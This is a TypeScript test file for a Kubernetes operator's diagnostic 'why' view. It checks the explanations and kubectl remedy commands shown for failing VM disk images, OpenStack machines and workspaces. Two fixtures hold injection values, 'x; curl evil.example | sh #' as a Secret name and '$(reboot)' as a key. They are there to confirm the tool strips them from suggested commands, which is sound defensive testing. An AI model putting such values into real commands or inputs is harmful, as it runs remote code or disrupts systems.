import { expect, test } from 'vitest';
import { egressAnnotation } from '../../shared/images/egress.ts';
import { parsePolicy } from '../../shared/policy.ts';
import { aHolder, aLease, at, aVMDiskImage, start } from '../../test/support/builders/images.ts';
import { aVirtualMachine } from '../../test/support/builders/machines.ts';
import { aKupenStackMachine, aVolume } from '../../test/support/builders/openstack.ts';
import { aMachineOf, aWorkspace } from '../../test/support/builders/workspaces.ts';
import { progressOf } from './progress.ts';
import { queueOf } from './queue-view.ts';
import { type Known, whyLines, whyOf } from './why-view.ts';

const condition = (type: string, status: 'True' | 'False', reason: string) => ({
  type,
  status,
  reason,
  message: `${reason}.`,
  lastTransitionTime: at(0),
});
const knownOf = (
  { lease, ...more }: Partial<Known> & { lease?: ReturnType<typeof aLease> } = {},
  data: Record<string, string> = {},
): Known => {
  const { images = [], nowMs = start } = more;
  const policy = parsePolicy({ data });
  const queue = queueOf({ images, lease, policy }, nowMs);
  return { machines: [], images, parts: [], secrets: new Map(), policy, queue, nowMs, ...more };
};
const queued = aVMDiskImage({ status: { phase: 'Queued', queuedAt: at(0), message: 'Waiting.' } });
const notReady = (reason: string) => [condition('Ready', 'False', reason)];
const failed = (reason: string) =>
  aVMDiskImage({
    status: { phase: 'Failed', message: `${reason}!`, conditions: notReady(reason) },
  });
const machine = aVirtualMachine({
  name: 'vm',
  namespace: 'ws-lab',
  status: { phase: 'Failed', message: 'Its image.', conditions: [condition('ImageReady', 'False', 'ImageFailed')] },
});
const workspace = aWorkspace({
  spec: { vms: [aMachineOf()] },
  status: {
    phase: 'Failed',
    namespace: 'ws-lab',
    message: 'VirtualMachine vm: Its image.',
    components: [{ kind: 'VirtualMachine', name: 'vm', phase: 'Failed', reason: 'ImageFailed', message: 'Its image.' }],
  },
});

test('a workspace is followed to its machine, and that to its image', () => {
  const found = whyOf(workspace, knownOf({ machines: [machine], images: [failed('AccessDenied')] }));
  expect(whyLines(found, ['2m ago AccessDenied: no.'])).toEqual([
    'Workspace lab is Failed: VirtualMachine vm: Its image.',
    '  because VirtualMachine ws-lab/vm is Failed: Its image.',
    '  because VMDiskImage vmdi-farm/ubuntu is Failed: AccessDenied!',
    '',
    expect.stringContaining('What would help: Check that the keys in Secret'),
    expect.stringContaining('kubectl describe secret'),
    '  kubectl annotate vmdi ubuntu -n vmdi-farm pelotech.ot/sync-requested=$(date +%s) --overwrite',
    '',
    'Warnings about image/vmdi-farm/ubuntu:',
    '  2m ago AccessDenied: no.',
  ]);
});

test.each([
  ['NotFound', 'kubectl annotate vmdi ubuntu -n vmdi-farm pelotech.ot/sync-requested=$(date +%s) --overwrite'],
  ['DiskTooSmall', 'kubectl edit vmdi ubuntu -n vmdi-farm'],
  ['SourceNotAllowed', 'kubectl edit configmap sync-operator-policy -n sync-operator'],
  ['SourceNotAllowed', 'kubectl edit vmdi ubuntu -n vmdi-farm'],
  [
    'SecretMissing',
    'kubectl create secret generic s3-reader -n vmdi-farm --from-literal=accessKeyId="$(cat FILE)" --from-literal=secretKey="$(cat FILE)"',
  ],
  ['SecretMissing', 'kubectl annotate vmdi ubuntu -n vmdi-farm pelotech.ot/sync-requested=$(date +%s) --overwrite'],
  ['DriverMismatch', 'ot-functions doctor'],
  ['ImportFailed', 'kubectl annotate vmdi ubuntu -n vmdi-farm pelotech.ot/sync-requested=$(date +%s) --overwrite'],
])('the remedy for an image that failed with %s: %s', (reason, command) => {
  expect(whyOf(failed(reason), knownOf()).commands).toContain(command);
});

test.each([
  ['Retrying', /^Correct the url if its host is wrong; the image then syncs by itself/],
  ['Failed', /then retry/],
] as const)('an image that is %s for a host that does not answer may have the wrong url', (phase, help) => {
  const source = { inspectedAt: at(1), queuedAt: at(0) };
  const conditions = [
    condition('SourceInspected', 'False', 'SourceUnreachable'),
    condition('Ready', 'False', 'ImportFailed'),
  ];
  const image = aVMDiskImage({ status: { phase, message: 'No such host.', queuedAt: at(0), source, conditions } });
  const cause = whyOf(image, knownOf());
  expect(cause.help).toMatch(help);
  expect(cause.commands).toEqual([
    'kubectl edit vmdi ubuntu -n vmdi-farm',
    'kubectl annotate vmdi ubuntu -n vmdi-farm pelotech.ot/sync-requested=$(date +%s) --overwrite',
  ]);
});

test.each([
  ['SnapshotMissing', 'kubectl annotate vmdi ubuntu -n vmdi-farm pelotech.ot/adopt-snapshot-'],
  ['SnapshotNameInvalid', 'kubectl get volumesnapshots -n vmdi-farm'],
  ['SnapshotOfAnotherImage', 'kubectl get volumesnapshots -n vmdi-farm'],
  ['SnapshotTerminating', 'kubectl get volumesnapshots -n vmdi-farm'],
  ['SnapshotClassMismatch', 'kubectl edit vmdi ubuntu -n vmdi-farm'],
  ['SnapshotTooLarge', 'kubectl edit vmdi ubuntu -n vmdi-farm'],
  ['SnapshotNotReady', 'ot-functions wait image/vmdi-farm/ubuntu'],
])('an image that adopts a snapshot with %s is advised: %s', (reason, command) => {
  const conditions = notReady(reason);
  const image = aVMDiskImage({ status: { phase: 'Snapshotting', message: `${reason}.`, conditions } });
  expect(whyOf(image, knownOf()).commands).toContain(command);
});

test.each([
  ['paused', { concurrency: '0' }, 'the queue is paused (concurrency 0).', 'ot-functions resume'],
  ['at fault', { retryLimit: 'x' }, 'retryLimit: expected', 'ot-functions policy set retryLimit VALUE'],
])('the cause of an image in the queue is the policy while that is %s', (_, data, says, command) => {
  const cause = whyOf(queued, knownOf({ images: [queued] }, data));
  expect(whyLines(cause, [])).toEqual([
    'VMDiskImage vmdi-farm/ubuntu is Queued: Waiting.',
    expect.stringContaining('  because the queue is stopped: '),
    '',
    'What would help: Start downloads again.',
    `  ${command}`,
  ]);
  expect(cause.steps[1]?.says).toContain(says);
});

test('for an image in the queue, why reports its place', () => {
  expect(whyOf(queued, knownOf({ images: [queued] })).help).toMatch(/number 1 in the queue; 0 of 4 slots held/);
});

test.each(['30s', '0s'])(
  'why forecasts no start at any moment before an inspection (inspectTimeout %s)',
  (inspectTimeout) => {
    const status = { phase: 'Succeeded', startedAt: at(-60), snapshottingAt: at(-30), completedAt: at(-20) } as const;
    const images = [queued, aVMDiskImage({ name: 'past', status })];
    const { help } = whyOf(queued, knownOf({ images }, { inspectTimeout }));
    expect(/at any moment/.test(help)).toBe(inspectTimeout === '0s');
  },
);

test.each([
  [
    'Syncing',
    false,
    /^Create Secret vmdi-farm\/s3-reader, which secretRef names/,
    'kubectl create secret generic s3-reader -n vmdi-farm',
  ],
  ['Retrying', false, /^Create Secret vmdi-farm\/s3-reader/, 'kubectl create secret generic s3-reader -n vmdi-farm'],
  ['Syncing', true, /^It is in progress: wait\.$/, 'ot-functions wait image/vmdi-farm/ubuntu'],
  ['Syncing', undefined, /^It is in progress: wait\.$/, 'ot-functions wait image/vmdi-farm/ubuntu'],
] as const)('an image that is %s whose Secret exists: %s', (phase, isThere, help, command) => {
  const image = aVMDiskImage({ status: { phase, message: 'Waiting.' } });
  const cause = whyOf(image, knownOf({ secrets: new Map([['vmdi-farm/s3-reader', isThere]]) }));
  expect(cause.help).toMatch(help);
  expect(cause.commands[0]).toContain(command);
});

test.each([
  ['another image names', 's3-reader', {}],
  ['the policy names', 's3-writer', { imageSecretRef: 's3-writer' }],
])('an image whose Secret does not exist may mean the one that %s', (_, meant, data) => {
  const lost = failed('SecretMissing');
  const image = { ...lost, spec: { ...lost.spec, secretRef: meant.replace('er', 're') } };
  const cause = whyOf(image, knownOf({ images: [image, aVMDiskImage({ name: 'other' })] }, data));
  expect(cause.help).toMatch(new RegExp(`^If ${meant} was meant, name it in secretRef\\. Otherwise: Create Secret`));
  expect(cause.commands).toEqual([
    'kubectl edit vmdi ubuntu -n vmdi-farm',
    expect.stringContaining(`kubectl create secret generic ${image.spec.secretRef} -n vmdi-farm`),
    expect.stringContaining('pelotech.ot/sync-requested'),
  ]);
});

test('an image that downloads no longer needs its Secret', () => {
  const importer = { uid: 'one', scratch: false };
  const image = aVMDiskImage({ status: { phase: 'Syncing', message: 'Downloading.', importer } });
  expect(whyOf(image, knownOf({ secrets: new Map([['vmdi-farm/s3-reader', false]]) })).help).toMatch(/in progress/);
});

const template = { imageUrlTemplate: 'https://images.example/{name}/{version}.qcow2' };

test.each([
  ['how images are made is not said', {}, 'Say how images', 'ot-functions policy set imageUrlTemplate', '--url URL'],
  ['it is', template, 'See in its message', /^ot-functions policy$/, '--version V'],
])('an image that a workspace lacks is created by the policy or by hand, if %s', (_, data, help, command, option) => {
  const message = 'Expected VMDiskImage gone.';
  const part = { kind: 'VMDiskImage', name: 'gone', phase: 'Waiting', reason: 'ImageMissing', message } as const;
  const status = {
    phase: 'Provisioning' as const,
    message: `VMDiskImage gone: ${message}`,
    components: [part],
  };
  const cause = whyOf(aWorkspace({ status }), knownOf({}, data));
  expect(cause.steps.map(({ about }) => about)).toEqual(['Workspace lab', 'VMDiskImage gone']);
  expect(cause.help).toContain(help);
  expect(cause.commands).toEqual([expect.stringMatching(command), `ot-functions preload gone ${option}`]);
});

test.each([
  ['by its url', 'ubunto', {}, /^If vmdi-farm\/ubuntu was meant/, []],
  ['by the policy', 'arch', template, /if the name is misspelt/, ['ot-functions preload arch --version V']],
  [
    'elsewhere',
    'arch',
    { imageNamespaces: 'other\nvmdi-farm' },
    /./,
    ['ot-functions preload arch -n vmdi-farm --url URL'],
  ],
  ['by hand', 'ubuntu', { imageNamespaces: 'other' }, /if the name is misspelt/, ['kubectl apply -f FILE']],
])('the remedy for a machine whose image does not exist is to create it %s', (_, name, data, help, command) => {
  const lost = aVirtualMachine({
    spec: { mode: 'FailIfNotExist', vmDiskImageRef: { namespace: 'vmdi-farm', name } },
    status: { phase: 'Failed', message: 'None.', conditions: notReady('ImageMissing') },
  });
  const cause = whyOf(lost, knownOf({ images: [failed('NotFound')] }, data));
  expect(cause.help).toMatch(help);
  // To create the misspelt name is not what to try.
  expect(cause.commands).toEqual([...command, 'kubectl delete otvm demo -n lab']);
});

test('a machine is not deleted first if another version of its image exists', () => {
  const lost = aVirtualMachine({
    spec: { mode: 'FailIfNotExist', vmDiskImageRef: { namespace: 'vmdi-farm', name: 'win11' } },
    status: { phase: 'Failed', message: 'None.', conditions: notReady('ImageMissing') },
  });
  const images = [aVMDiskImage({ name: 'win10' })];
  expect(whyOf(lost, knownOf({ images })).commands[0]).toMatch(/preload win11/);
});

test('a machine that lacks a password is not followed to its image, whatever state that is in', () => {
  const lost = aVirtualMachine({
    status: {
      phase: 'Failed',
      message: 'Expected the password.',
      conditions: [...notReady('PasswordSecretMissing'), condition('ImageReady', 'False', 'ImageTerminating')],
    },
  });
  const found = whyOf(lost, knownOf({ images: [failed('AccessDenied')] }));
  expect(whyLines(found, [])[0]).toBe('VirtualMachine lab/demo is Failed: Expected the password.');
  expect(found.at).toBe(lost);
});

test('a machine on OpenStack is followed to its volume, and that to the account', () => {
  const because = notReady('CredentialsMissing');
  const disk = aVolume({ status: { phase: 'Pending', message: 'Expected a Secret.', conditions: because } });
  const server = aKupenStackMachine({
    status: {
      phase: 'Pending',
      message: 'Waiting.',
      conditions: [condition('VolumesReady', 'False', 'VolumeNotReady')],
    },
  });
  const { steps, commands } = whyOf(server, knownOf({ parts: [disk] }));
  expect(steps.map(({ about }) => about)).toEqual([
    'VirtualMachine.kupenstack.io lab/demo',
    'Volume.kupenstack.io lab/disk',
  ]);
  expect(commands).toEqual(['kubectl create secret generic openstack-credentials -n lab --from-file=clouds.yaml=FILE']);
});

test('a machine on OpenStack that waits for a missing network is not followed to a volume', () => {
  const disk = aVolume({ status: { phase: 'Failed', conditions: notReady('SourceNotAllowed') } });
  const conditions = [
    condition('NetworksReady', 'False', 'NetworkMissing'),
    condition('VolumesReady', 'False', 'VolumeNotReady'),
    condition('Ready', 'False', 'NetworkMissing'),
  ];
  const server = aKupenStackMachine({
    status: { phase: 'Pending', message: 'Waiting: there is no network net.', conditions },
  });
  const { steps, help } = whyOf(server, knownOf({ parts: [disk] }));
  expect(steps).toHaveLength(1);
  expect(help).toMatch(/^Create the network/);
});

test.each([
  ['ImageMissing', /upload it to Glance/],
  ['QuotaExceeded', /quota raised/],
  ['DownloadFailed', /where Glance runs/],
] as const)('why tells what would help a volume with %s, not that it is in progress', (reason, help) => {
  const volume = aVolume({ status: { phase: 'Pending', conditions: notReady(reason) } });
  expect(whyOf(volume, knownOf()).help).toMatch(help);
});

test.each([
  [
    'EndpointNotAllowed',
    'Pending',
    /^(ot-functions policy|kubectl edit configmap sync-operator-policy -n sync-operator)$/,
  ],
  [
    'VolumeInUse',
    'Pending',
    /^kubectl get virtualmachines\.kupenstack\.io -n lab -o custom-columns=machine:\.metadata\.name,server:\.status\.id$/,
  ],
  ['VolumeMissing', 'Pending', /^kubectl edit virtualmachine\.kupenstack\.io demo -n lab$/],
  ['BootFailed', 'Failed', /^kubectl describe virtualmachine\.kupenstack\.io demo -n lab$/],
  ['Creating', 'Creating', /^ot-functions wait virtualmachine\.kupenstack\.io\/lab\/demo$/],
] as const)('a machine on OpenStack with %s has a remedy', (reason, phase, command) => {
  const server = aKupenStackMachine({
    status: { phase, message: 'No.', conditions: notReady(reason) },
  });
  expect(whyOf(server, knownOf()).commands[0]).toMatch(command);
});

test('a Ready object needs no remedy, and an object without a status needs the doctor', () => {
  const ready = aVirtualMachine({ status: { phase: 'Ready', message: 'It runs.' } });
  expect(whyLines(whyOf(ready, knownOf()), [])).toEqual(['VirtualMachine lab/demo is Ready: It runs.']);
  expect(whyOf(aVMDiskImage(), knownOf()).commands).toEqual(['ot-functions doctor']);
});

test('why and wait report what holds a deleted image, and why reports what would help', () => {
  const conditions = [condition('DeletionHeld', 'True', 'UsedByMachines')];
  const held = aVMDiskImage({ deleted: true, status: { phase: 'Succeeded', message: 'Ready to clone.', conditions } });
  expect(whyLines(whyOf(held, knownOf({ images: [held] })), [])).toEqual([
    expect.stringContaining('UsedByMachines.'),
    '',
    'What would help: Delete what uses it, or delete the image at once with the command: machines keep their disks, which are clones.',
    '  kubectl annotate vmdi ubuntu -n vmdi-farm pelotech.ot/release-holds=true',
  ]);
  expect(progressOf(held)).toMatchObject({ phase: 'Terminating', message: 'UsedByMachines.' });
});

test('an object on OpenStack gets no remedy of an image', () => {
  const server = aKupenStackMachine({
    status: { phase: 'Failed', message: 'Nova: not found.', conditions: notReady('NotFound') },
  });
  const volume = aVolume({
    status: { phase: 'Terminating', conditions: [condition('DeletionHeld', 'True', 'InUse')] },
  });
  volume.metadata.deletionTimestamp = '2026-01-01T00:00:00Z';
  for (const object of [server, volume])
    expect(JSON.stringify(whyOf(object, knownOf({ parts: [] })))).not.toMatch(/vmdi|retry|Upload/);
});

test('a workspace whose spec is invalid is not followed to what else is wrong with it', () => {
  const { status } = workspace;
  const conditions = [condition('SpecValid', 'False', 'SpecInvalid'), condition('Ready', 'False', 'SpecInvalid')];
  const message = 'vms: interface nett names no network.';
  const cause = whyOf(
    { ...workspace, status: { ...status, message, conditions } } as typeof workspace,
    knownOf({ machines: [machine], images: [failed('AccessDenied')] }),
  );
  expect(cause.steps).toEqual([{ about: 'Workspace lab', phase: 'Failed', says: message }]);
  expect(cause.commands).toEqual(['kubectl edit otws lab']);
});

test('an image that was made of a misspelt name leads to the image of nearly that name', () => {
  const made = aVMDiskImage({
    name: 'ubunto',
    labels: { 'pelotech.ot/made-for': 'workspaces' },
    status: {
      phase: 'Failed',
      message: 'No such key.',
      conditions: notReady('SourceMissing'),
    },
  });
  const part = { kind: 'VMDiskImage', name: 'ubunto', phase: 'Failed', reason: 'ImageFailed', message: 'No.' } as const;
  const lab = aWorkspace({
    spec: { vms: [aMachineOf({ backingVMDiskImage: 'ubunto' })] },
    status: {
      ...{ phase: 'Failed', message: 'VMDiskImage ubunto: No.', components: [part] },
      images: [{ namespace: 'vmdi-farm', name: 'ubunto' }],
    },
  });
  const cause = whyOf(lab, knownOf({ images: [made, aVMDiskImage({ status: { phase: 'Succeeded' } })] }));
  expect(cause.help).toMatch(/^If vmdi-farm\/ubuntu was meant, name that in backingVMDiskImage\. Otherwise: /);
  expect(cause.commands[0]).toBe('kubectl edit otws lab');
  const alone = whyOf(lab, knownOf({ images: [made] }));
  expect(alone.commands).not.toContain('kubectl edit otws lab');
});

test('a component of a workspace gets the remedy of its reason', () => {
  const { status } = workspace;
  const components = [
    { kind: 'Volume', name: 'data', phase: 'Failed', reason: 'NoStorageClass', message: 'None.' },
  ] as const;
  const { help, commands } = whyOf(
    { ...workspace, status: { ...status, components: [...components] } } as typeof workspace,
    knownOf(),
  );
  expect([help, ...commands]).toEqual([expect.stringContaining('Name a StorageClass'), 'kubectl get storageclasses']);
});

test.each([
  ['names no Secret', {}, 'the image names no Secret'],
  [
    'names one that a shell would run',
    { secretRef: 'x; curl evil.example | sh #' },
    'kubectl describe secret SECRET -n',
  ],
])('an image that may not be read and %s', (_, spec, advice) => {
  const image = failed('SourceForbidden');
  const { secretRef: _none, ...rest } = image.spec;
  const { help, commands } = whyOf({ ...image, spec: { ...rest, ...spec } }, knownOf());
  const found = [help, ...commands].join();
  expect(found).toContain(advice);
  expect(found).not.toContain('evil');
});

test('an image that waits for another of the same content is followed to that', () => {
  const source = { bytes: 1, content: 'same', inspectedAt: at(0), queuedAt: at(0) };
  const of = (name: string, phase: 'Queued' | 'Syncing', content = 'same') =>
    aVMDiskImage({
      name,
      status: { phase, message: `${phase}.`, revision: 1, queuedAt: at(0), source: { ...source, content } },
    });
  const waits = of('second', 'Queued');
  const known = knownOf({ images: [of('other', 'Syncing', 'another'), waits, of('first', 'Syncing')] });
  expect(whyLines(whyOf(waits, known), []).slice(0, 3)).toEqual([
    'VMDiskImage vmdi-farm/second is Queued: Queued.',
    '  because its content is awaited: VMDiskImage vmdi-farm/first downloads the same (SameContent); the image is cloned from it after that.',
    '  because VMDiskImage vmdi-farm/first is Syncing: Syncing.',
  ]);
});

test.each([
  ['NetworkMissing', /^Create the network that the message names/, 'kubectl edit otvm vm -n lab'],
  ['MultusMissing', /^Install Multus/, 'kubectl edit otvm vm -n lab'],
  [
    'NetworkNotAllowed',
    /^Name a network of lab, .*machineNetworks/,
    'kubectl edit configmap sync-operator-policy -n sync-operator',
  ],
  ['AddressInUse', /^Correct in its spec/, 'kubectl edit otvm vm -n lab'],
  ['ClaimGone', /^Delete the DataVolume/, /kubectl delete dv vm-root -n lab/],
  ['LaunchFailed', /^Find out from KubeVirt/, 'kubectl describe vmi vm -n lab'],
  [
    'ImageNamespaceNotAllowed',
    /^Delete the machine and create it with the right vmDiskImageRef/,
    'kubectl delete otvm vm -n lab',
  ],
  [
    'ImageNamespaceMissing',
    /^Delete the machine and create it with the right vmDiskImageRef/,
    'kubectl delete otvm vm -n lab',
  ],
  ['Other', /^Correct what its message names/, 'kubectl describe otvm vm -n lab'],
])('a machine that is not Ready for %s has the cure of that', (reason, help, command) => {
  const rootDisk = { name: 'vm-root', image: 'vmdi-farm/ubuntu', revision: 1 };
  const conditions = notReady(reason);
  const status = { phase: 'Failed' as const, message: `${reason}.`, conditions, rootDisk };
  const found = whyOf(aVirtualMachine({ name: 'vm', namespace: 'lab', status }), knownOf());
  expect(found.help).toMatch(help);
  expect(found.commands).toContainEqual(expect.stringMatching(command));
});

test('a machine without a password or a host key has commands with the names and keys of its spec', () => {
  const commandsFor = (reason: string) => {
    const spec = {
      users: [
        { name: 'ops', passwordSecretRef: { name: 'logins', key: 'ops' } },
        { name: 'dev', passwordSecretRef: { name: 'logins', key: 'dev' } },
        { name: 'guest' },
        { name: 'mean', passwordSecretRef: { name: 'logins', key: '$(reboot)' } },
        { name: 'student', passwordSecretRef: { name: 'student', key: 'password' } },
      ],
      sshHostKeySecretRef: { name: 'host-keys', key: 'vm' },
    };
    const status = {
      phase: 'Failed' as const,
      message: `${reason}.`,
      conditions: notReady(reason),
    };
    return whyOf(aVirtualMachine({ name: 'vm', namespace: 'lab', spec, status }), knownOf()).commands;
  };
  expect(commandsFor('PasswordSecretMissing')).toEqual([
    'kubectl create secret generic logins -n lab --from-literal=ops="$(cat FILE)" --from-literal=dev="$(cat FILE)"',
    'kubectl label secret logins -n lab pelotech.ot/use=password',
    'kubectl create secret generic student -n lab --from-literal=password="$(cat FILE)"',
    'kubectl label secret student -n lab pelotech.ot/use=password',
  ]);
  expect(commandsFor('HostKeyMissing')).toEqual(['kubectl label secret host-keys -n lab pelotech.ot/use=host-key']);
});

test.each([
  [
    'its inspection',
    {},
    {},
    /First its source is inspected, for at most 30s/,
    'ot-functions wait image/vmdi-farm/ubuntu',
  ],
  [
    'a source out of reach, while the policy has a budget',
    { egressBudget: '500Gi/30d' },
    { reason: 'SourceUnreachable' },
    /cannot be reached/,
    'kubectl annotate vmdi ubuntu -n vmdi-farm pelotech.ot/ignore-budget=true',
  ],
  [
    'a source out of reach',
    { inspectTimeout: '5m' },
    { reason: 'SourceUnreachable' },
    /Correct url if its host is wrong/,
    'kubectl edit vmdi ubuntu -n vmdi-farm',
  ],
  [
    'the slots of its namespace',
    { inspectTimeout: '0s', slotsPerNamespace: '1' },
    {},
    /Its namespace holds all of its slots/,
    'ot-functions policy set slotsPerNamespace 2',
  ],
  [
    'a free slot',
    { inspectTimeout: '0s', concurrency: '1' },
    {},
    /raise concurrency/,
    'ot-functions policy set concurrency 2',
  ],
  [
    'start-sync alone',
    { inspectTimeout: '0s', concurrency: '2' },
    {},
    /what keeps start-sync from it/,
    'ot-functions doctor',
  ],
])('a queued image that waits for %s names what would help with that', (_, data, found, help, command) => {
  const queuedAt = new Date(start).toISOString();
  const conditions =
    'reason' in found ? ['SourceInspected', 'Ready'].map((type) => condition(type, 'False', String(found.reason))) : [];
  const source = { bytes: 1, inspectedAt: queuedAt, queuedAt };
  const status = { phase: 'Queued', queuedAt, message: 'Waiting.', conditions } as const;
  const image = aVMDiskImage({ status: 'reason' in found ? { ...status, source } : status });
  const busy = aVMDiskImage({ name: 'busy', status: { phase: 'Syncing' } });
  const nowMs = 'reason' in found ? start + 60_000 : start;
  const given = { images: [image, busy], lease: aLease([aHolder(busy)]), nowMs };
  const cause = whyOf(image, knownOf(given, { inspectTimeout: '30s', ...data }));
  expect(cause.help).toMatch(help);
  expect(cause.commands).toContain(command);
  expect(/raise concurrency/.test(cause.help)).toBe(/concurrency/.test(command));
});

test.each([
  [
    undefined,
    'raise egressBudget, or let one image start',
    'kubectl annotate vmdi ubuntu -n vmdi-farm pelotech.ot/ignore-budget=true',
  ],
  ['true', 'More at once: raise concurrency.', 'ot-functions policy set concurrency 2'],
])('while the budget is spent, why advises an image with ignore-budget=%s: %s', (ignores, advice, command) => {
  const annotations = ignores ? { 'pelotech.ot/ignore-budget': ignores } : {};
  const image = aVMDiskImage({ annotations, status: { phase: 'Queued', queuedAt: at(0) } });
  const busy = aVMDiskImage({ name: 'busy', status: { phase: 'Syncing' } });
  const data = { egressBudget: '1Gi/1d', imageNamespaces: 'vmdi-farm', inspectTimeout: '0s', concurrency: '1' };
  const lease = aLease([aHolder(busy)]);
  const spent = JSON.stringify({ [at(0).slice(0, 10)]: { 'vmdi-farm': 2 ** 31 } });
  Object.assign(lease.metadata.annotations ?? {}, { [egressAnnotation]: spent });
  const { help, commands } = whyOf(image, knownOf({ images: [image, busy], lease }, data));
  expect(help).toContain(advice);
  expect(commands).toContain(command);
});

test('a queued image whose earlier attempt still has a slot waits for the end of that, not for a slot', () => {
  const known = knownOf({ images: [queued], lease: aLease([aHolder(queued)]) }, { concurrency: '1' });
  const { help, commands } = whyOf(queued, known);
  expect(help).toBe('Its last attempt still has the slot; it starts when the DataVolume and the Pod of that are gone.');
  expect(commands).toEqual(['kubectl get dv,pods,pvc -n vmdi-farm']);
});
